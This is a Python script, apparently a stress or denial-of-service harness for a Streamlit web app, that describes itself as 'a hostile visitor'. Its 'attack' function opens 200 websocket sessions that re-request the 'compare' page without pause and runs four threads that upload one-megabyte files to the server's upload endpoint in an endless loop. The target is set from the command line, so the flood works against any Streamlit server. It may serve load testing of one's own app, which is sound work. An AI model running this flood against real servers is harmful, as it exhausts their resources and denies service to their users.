"""A hostile visitor, as a process of its own: 200 pages of the largest link, asked for again and again, and uploads."""

import asyncio
import sys
import urllib.error
import urllib.request
from contextlib import suppress

from streamlit.proto.BackMsg_pb2 import BackMsg
from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
from websockets.asyncio.client import connect
from websockets.exceptions import WebSocketException

CONNECTIONS = 200
ADDRESS = "127.0.0.66"  # From which it comes; on Linux this machine has them all.
MEGABYTE = b"x" * 1_000_000


async def look(address: str, page: str, query: str, finish, local: str = ADDRESS) -> None:
    """Opens a page, and asks for it anew as soon as it is there; `finish` is awaited each time."""
    options = {"subprotocols": ["streamlit"], "max_size": None, "compression": None, "open_timeout": 120}
    options |= {"ping_interval": None, "local_addr": (local, 0)}
    async with connect(f"ws://{address}/_stcore/stream", **options) as socket:
        state = {"query_string": query, "page_name": page}
        await socket.send(BackMsg(rerun_script=state).SerializeToString())
        async for content in socket:
            message = ForwardMsg.FromString(content)
            if message.WhichOneof("type") == "new_session":
                state = {"query_string": query, "page_script_hash": message.new_session.page_script_hash}
            if message.WhichOneof("type") == "script_finished" and await finish():
                await socket.send(BackMsg(rerun_script=state).SerializeToString())


async def attack(address: str, query: str) -> None:
    """All of it, until it is ended."""
    finished = 0

    async def finish() -> bool:
        nonlocal finished
        finished += 1
        if finished in (1, CONNECTIONS):
            print(finished, flush=True)
        return True

    async def look_on() -> None:
        while True:
            with suppress(WebSocketException, OSError):
                await look(address, "compare", query, finish)
            await asyncio.sleep(1)

    uploads = [asyncio.to_thread(upload, address) for _ in range(4)]
    await asyncio.gather(*(look_on() for _ in range(CONNECTIONS)), *uploads)


def upload(address: str) -> None:
    """Sends files of a megabyte each without end."""
    while True:
        request = urllib.request.Request(f"http://{address}/_stcore/upload_file/x/y", MEGABYTE, method="PUT")
        with suppress(urllib.error.URLError, OSError):
            urllib.request.urlopen(request, timeout=10).close()


if __name__ == "__main__":
    asyncio.run(attack(sys.argv[1], sys.argv[2]))
